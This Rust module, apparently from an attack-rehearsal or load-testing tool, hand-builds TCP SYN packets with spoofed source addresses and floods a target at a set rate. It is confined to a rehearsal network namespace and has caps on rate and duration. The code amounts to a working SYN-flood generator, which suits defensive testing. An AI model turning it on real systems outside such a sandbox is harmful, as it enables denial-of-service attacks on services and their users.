//! First packets of TCP connections, from senders that don't exist; inside a namespace of the rehearsal only, where the
//! answers to them are swallowed.

use super::Field;
use crate::limits as l;
use crate::net::RawSender;
use preau_base::{Rng as _, SeededRng};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};
use tokio::time::sleep_until;

const IP_HEADER_BYTES: usize = 20;
const TCP_HEADER_BYTES: usize = 20;
/// 198.18.0.0/15, which nobody in the namespace has; its first address is the server's.
const SENDERS: u32 = 0xc612_0000;

pub(super) async fn flood(field: &Field) {
    // Told in the report: see `Attacker::cannot`.
    let Some(namespace) = &field.namespace else { return };
    let Ok(sender) = RawSender::open(field.target, namespace) else {
        return field.toll.bump(|toll| &toll.not_connected);
    };
    let begun = Instant::now();
    let until = field.until.min(begun + Duration::from_millis(l::ATTACK_MS_MAX));
    let mut rng = SeededRng::new(field.seed ^ 0x5e);
    for number in 0..l::ATTACK_REQUESTS_MAX {
        let due = begun + Duration::from_micros(number * 1_000_000 / u64::from(field.per_second.max(1)));
        if due >= until {
            return;
        }
        sleep_until(due.into()).await;
        let source = Ipv4Addr::from_bits(SENDERS | (2 + u32::try_from(rng.below(0x1_fff0)).unwrap_or(0)));
        let port = 1_024 + u16::try_from(rng.below(60_000)).unwrap_or(0);
        let packet = syn(SocketAddrV4::new(source, port), sender.target(), rng.next_u64() as u32);
        match sender.send(&packet) {
            Ok(_) => field.toll.bump(|toll| &toll.begun),
            Err(_full) => field.toll.bump(|toll| &toll.not_connected),
        }
    }
}

/// A TCP segment with SYN set in an IPv4 packet (RFC 791 §3.1, RFC 9293 §3.1).
fn syn(from: SocketAddrV4, to: SocketAddrV4, sequence: u32) -> Vec<u8> {
    let mut tcp = Vec::with_capacity(TCP_HEADER_BYTES);
    tcp.extend_from_slice(&from.port().to_be_bytes());
    tcp.extend_from_slice(&to.port().to_be_bytes());
    tcp.extend_from_slice(&sequence.to_be_bytes());
    tcp.extend_from_slice(&[0; 4]);
    // Header of five words, SYN, window.
    tcp.extend_from_slice(&[0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
    let mut pseudo = Vec::with_capacity(12 + TCP_HEADER_BYTES);
    pseudo.extend_from_slice(&from.ip().octets());
    pseudo.extend_from_slice(&to.ip().octets());
    pseudo.extend_from_slice(&[0, 6, 0, TCP_HEADER_BYTES as u8]);
    pseudo.extend_from_slice(&tcp);
    let sum = checksum(&pseudo).to_be_bytes();
    tcp[16..18].copy_from_slice(&sum);
    let length = ((IP_HEADER_BYTES + TCP_HEADER_BYTES) as u16).to_be_bytes();
    // Version 4, no options, not to be fragmented, 64 hops, TCP; the kernel fills in the checksum.
    let mut packet = vec![0x45, 0, length[0], length[1], 0, 0, 0x40, 0, 64, 6, 0, 0];
    packet.extend_from_slice(&from.ip().octets());
    packet.extend_from_slice(&to.ip().octets());
    packet.extend_from_slice(&tcp);
    packet
}

/// The Internet checksum (RFC 1071).
fn checksum(bytes: &[u8]) -> u16 {
    let word = |pair: &[u8]| u32::from(pair[0]) << 8 | u32::from(pair.get(1).copied().unwrap_or(0));
    let mut sum: u32 = bytes.chunks(2).map(word).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_segment_sums_to_nothing_with_its_checksum() {
        let from = SocketAddrV4::new(Ipv4Addr::new(198, 18, 3, 4), 40_000);
        let to = SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 443);
        let packet = syn(from, to, 0x0102_0304);
        assert_eq!(packet.len(), 40);
        let mut pseudo = packet[12..20].to_vec();
        pseudo.extend_from_slice(&[0, 6, 0, 20]);
        pseudo.extend_from_slice(&packet[20..]);
        assert_eq!(checksum(&pseudo), 0);
        // RFC 1071 §3.
        assert_eq!(checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]), !0xddf2);
    }
}
